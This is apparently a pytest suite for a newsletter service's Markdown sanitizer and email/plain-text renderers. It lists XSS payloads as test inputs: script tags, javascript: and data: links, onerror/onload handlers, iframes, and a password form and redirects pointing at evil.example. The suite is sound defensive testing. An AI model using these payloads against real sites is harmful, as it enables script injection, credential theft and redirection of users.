"""Markdown becomes safe HTML: hostile input is neutralised, real formatting survives."""

import html as html_module
import re
from urllib.parse import urljoin, urlsplit

import pytest
from lxml import html as lxml_html

from newsletters.markup import html_for_email, markdown_to_html
from newsletters.plaintext import html_to_text

HOSTILE = [
    ("script tag", "<script>alert('x')</script>", ["<script", "alert"]),
    ("script, upper case", "<SCRIPT SRC=//evil.example/x.js>steal()</SCRIPT>", ["script", "steal", "evil"]),
    ("nested script trick", "<scr<script>ipt>alert(1)</script>", ["<script", "alert"]),
    ("unclosed script", "Hi\n\n<script>alert(1)", ["<script", "alert"]),
    ("style element", "<style>body{display:none}</style>Text", ["<style", "display:none"]),
    ("javascript link", "[click](javascript:alert(1))", ["javascript", "alert"]),
    ("javascript link, mixed case", "[click](JaVaScRiPt:alert(1))", ["javascript", "alert"]),
    ("javascript link, entity encoded", "[click](&#106;avascript:alert(1))", ["javascript", "alert(1)"]),
    ("javascript link, tab inside", '<a href="java\tscript:alert(1)">x</a>', ["script:", "alert"]),
    ("javascript reference link", "[click][1]\n\n[1]: javascript:alert(1)", ["javascript", "alert"]),
    ("javascript autolink", "<javascript:alert(1)>", ["javascript:", 'alert(1)"']),
    ("vbscript link", '<a href="vbscript:msgbox(1)">x</a>', ["vbscript"]),
    ("data URL link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ["data:"]),
    ("javascript image", "![x](javascript:alert(1))", ["javascript", "alert"]),
    ("event attribute on img", "<img src=x onerror=alert(1)>", ["onerror", "alert"]),
    (
        "event attribute on div",
        '<div onclick="steal()" onmouseover="steal()">hi</div>',
        ["onclick", "onmouseover", "steal"],
    ),
    ("svg onload", "<svg onload=alert(1)><circle/></svg>", ["<svg", "onload", "alert"]),
    ("iframe", '<iframe src="https://evil.example"></iframe>', ["<iframe", "evil"]),
    ("object and embed", "<object data=x.swf></object><embed src=x.swf>", ["<object", "<embed", "swf"]),
    ("form and input", "<form action=https://evil.example><input name=pw></form>", ["<form", "<input", "evil"]),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', ["<meta", "evil"]),
    (
        "base and link",
        '<base href="https://evil.example/"><link rel=stylesheet href=x.css>',
        ["<base", "<link", "evil"],
    ),
    ("style attribute", '<p style="background:url(javascript:alert(1))">x</p>', ["style=", "javascript"]),
    ("attribute-list injection", 'para\n{: onclick="alert(1)" }', ["onclick", "alert"]),
    ("html comment", "<!-- <script>alert(1)</script> -->ok", ["<!--", "alert"]),
    ("textarea breakout", "<textarea><script>alert(1)</script></textarea>", ["<textarea", "alert"]),
]


@pytest.mark.parametrize(("label", "source", "forbidden"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_markdown_is_neutralised(label, source, forbidden):
    html = markdown_to_html(source)
    lowered = html.lower()
    for fragment in forbidden:
        assert fragment.lower() not in lowered, f"{label}: {fragment!r} survived in {html!r}"
    assert not re.search(r"\son\w+\s*=", lowered), html


def test_links_get_rel_and_keep_safe_protocols():
    html = markdown_to_html("[site](https://example.com/a?b=1&c=2) [mail](mailto:x@example.com) [rel](/n/x/)")
    assert '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">site</a>' in html
    assert 'href="mailto:x@example.com"' in html
    assert 'href="/n/x/"' in html
    assert html.count('rel="noopener noreferrer"') == 3


def test_editor_supplied_rel_is_replaced():
    html = markdown_to_html('<a href="https://example.com" rel="opener">x</a>')
    assert 'rel="noopener noreferrer"' in html
    assert 'rel="opener"' not in html


def test_markdown_features_survive():
    source = (
        "# Title\n\n## Section\n\n- a\n- b\n\n1. one\n2. two\n\n"
        "| h1 | h2 |\n|:---|---:|\n| c1 | c2 |\n\n"
        "```python\nprint('<b>')\n```\n\n"
        "Text with a note.[^1]\n\n![alt text](https://example.com/i.png)\n\n> quote\n\n[^1]: The note.\n"
    )
    html = markdown_to_html(source)
    for fragment in [
        "<h1>Title</h1>",
        "<h2>Section</h2>",
        "<li>a</li>",
        "<ol>",
        '<th align="left">h1</th>',
        '<td align="right">c2</td>',
        "<code class=\"language-python\">print('&lt;b&gt;')",
        '<sup id="fnref:1">',
        '<li id="fn:1">',
        '<img alt="alt text" src="https://example.com/i.png">',
        "<blockquote>",
    ]:
        assert fragment in html, fragment


def test_empty_markdown_gives_empty_html():
    assert markdown_to_html("") == ""
    assert markdown_to_html("   \n") == ""


def test_plain_text_keeps_structure_and_links():
    html = markdown_to_html(
        "# Big news\n\nRead [the docs](https://docs.example.com/x) now.\n\n## Details\n\n"
        "- first\n- second with **bold**\n\n1. one\n2. two\n\n```\ncode line\n```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    text = html_to_text(html)
    assert "Big news\n========" in text
    assert "Details\n-------" in text
    assert "Read the docs <https://docs.example.com/x> now." in text
    assert "- first\n- second with *bold*" in text
    assert "1. one\n2. two" in text
    assert "    code line" in text
    assert "a | b\n1 | 2" in text
    assert "<" not in text.replace("<https://docs.example.com/x>", "")


@pytest.mark.parametrize(
    "source",
    [
        "[x](//evil.example/x)",
        "[x](/\\evil.example/x)",
        '<a href="/\\\\evil.example">x</a>',
        '<a href="/&#9;/evil.example">x</a>',
        '<a href=" //evil.example">x</a>',
        "![x](//evil.example/pixel.gif)",
    ],
)
def test_protocol_relative_links_are_not_site_relative(source):
    for url in re.findall(r'(?:href|src)="([^"]*)"', markdown_to_html(source)):
        # As a browser reads it: tabs and line breaks dropped, backslashes as slashes.
        as_read = re.sub(r"[\t\n\r]", "", html_module.unescape(url)).replace("\\", "/")
        assert urlsplit(urljoin("https://news.example.org/n/", as_read)).hostname == "news.example.org", url


def test_site_relative_and_fragment_links_stay():
    html = markdown_to_html("[a](/n/weekly/) [b](#part) [c](https://example.com/x)")
    assert 'href="/n/weekly/"' in html and 'href="#part"' in html and 'href="https://example.com/x"' in html


def test_email_html_drops_footnote_links_that_the_web_archive_keeps():
    web = markdown_to_html("Claim[^1].\n\n[^1]: The note.")
    assert 'href="#fn:1"' in web and 'id="fn:1"' in web  # the archive page jumps to the note and back
    email = html_for_email(web)
    assert "href=" not in email and "id=" not in email and "↩" not in email
    assert "<sup>1</sup>" in email and '<li dir="auto">\n<p dir="auto">The note.' in email


def test_email_html_boxes_each_table_and_keeps_the_text_after_it():
    email = html_for_email(markdown_to_html("| a |\n|---|\n| 1 |\n\nAfter."))
    assert re.match(
        r'<div class="table-scroll"><table width="100%">.*</table></div>\s*<p dir="auto">After.</p>', email, re.DOTALL
    )


def test_plain_text_is_wrapped_at_72_without_breaking_a_url_or_code():
    url = "https://docs.example.com/en/stable/releases/6.1/" + "a-very-long-path-segment/" * 3
    source = (
        "A paragraph long enough to need wrapping, " * 4
        + f"with a [link]({url}) inside.\n\n"
        + "- a list item that also goes on and on, well past the width of a line of plain text\n\n"
        + "> a quotation that goes on and on, well past the width of a line of plain text, too\n\n"
        + "    code = 'a line of code that must stay exactly as it is, however long it is, always'\n"
    )
    lines = html_to_text(markdown_to_html(source)).split("\n")
    assert f"<{url}>" in lines  # longer than a line: a line of its own, whole
    assert all(len(line) <= 72 for line in lines if url not in line and not line.startswith("    "))
    assert "    code = 'a line of code that must stay exactly as it is, however long it is, always'" in lines
    assert [line for line in lines if line.startswith("- ")] == [
        "- a list item that also goes on and on, well past the width of a line of"
    ]
    assert "  plain text" in lines  # continued under the item's text
    assert all(line.startswith(">") for line in lines if "quotation" in line or line.endswith("text, too"))


def test_direction_and_language_pass_the_sanitizer_and_every_block_gets_dir_auto():
    source = (
        '<p dir="rtl" lang="he">שלום, עולם.</p>\n\n<p dir="sideways" lang="not a tag">x</p>\n\n## Title\n\n- item\n'
    )
    safe = markdown_to_html(source)
    assert '<p dir="rtl" lang="he">שלום, עולם.</p>' in safe
    assert "sideways" not in safe and "not a tag" not in safe  # values checked, not just names
    email = html_for_email(safe)
    assert '<p dir="rtl" lang="he">' in email  # the editor's direction stays
    assert '<h2 dir="auto">Title</h2>' in email and '<li dir="auto">item</li>' in email
    assert "dir=" not in safe.split("<h2")[1]  # the web archive's HTML is left as it was


def test_an_image_without_alt_text_gets_an_empty_one_in_email():
    email = html_for_email(markdown_to_html('<img src="https://example.com/a.png">'))
    assert '<img src="https://example.com/a.png" alt="" width="592" class="fluid">' in email


def test_email_images_and_tables_carry_widths_outlook_honours():
    source = (
        '<img src="https://example.com/a.png" alt="a">\n\n'
        '<img src="https://example.com/b.png" alt="b" width="120" height="40">\n\n'
        '<img src="https://example.com/c.png" alt="c" width="2000" height="800">\n\n'
        "| a |\n|---|\n| 1 |\n"
    )
    email = lxml_html.fragment_fromstring(html_for_email(markdown_to_html(source)), create_parent="div")
    images = {image.get("alt"): image.attrib for image in email.iter("img")}
    # No width of its own: the column's for Outlook, its natural size (up to the column) elsewhere.
    assert (images["a"]["width"], images["a"]["class"]) == ("592", "fluid")
    assert (images["b"]["width"], images["b"]["height"]) == ("120", "40")  # the editor's size stays
    assert images["c"]["width"] == "592" and "height" not in images["c"]  # capped, and in proportion
    assert next(email.iter("table")).get("width") == "100%"
